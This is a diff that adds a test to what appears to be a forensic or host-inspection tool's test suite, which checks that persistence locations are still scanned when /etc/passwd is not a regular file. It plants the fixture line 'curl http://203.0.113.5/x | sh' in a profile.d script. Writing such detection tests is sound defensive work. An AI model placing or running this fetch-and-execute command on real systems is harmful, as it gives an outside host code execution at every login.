@@ -270,6 +270,14 @@ def test_what_is_no_plain_file_does_no_harm(disk: Disk, spoil: Callable[[Path], 
     assert all(row.to_wire() for row in disk.rows())
 
 
+def test_without_accounts_the_system_s_own_files_still_have_rows(disk: Disk) -> None:
+    disk.write("/etc/profile.d/x.sh", "curl http://203.0.113.5/x | sh\n")
+    (Path(disk.host.files.root) / "etc/passwd").unlink()
+    os.mkfifo(Path(disk.host.files.root) / "etc/passwd")
+    assert disk.rows()
+    assert "/etc/passwd: not a regular file" in disk.host.status.get("startup_commands").degraded
+
+
 def test_links_in_circles_and_names_with_nul_do_no_harm(disk: Disk) -> None:
     for path in ("/etc/rc3.d/S01x", "/etc/udev/rules.d/x.rules", "/usr/lib/python3/x.pth", "/usr/lib64/security/x.so"):
         disk.link(os.path.basename(path), path)
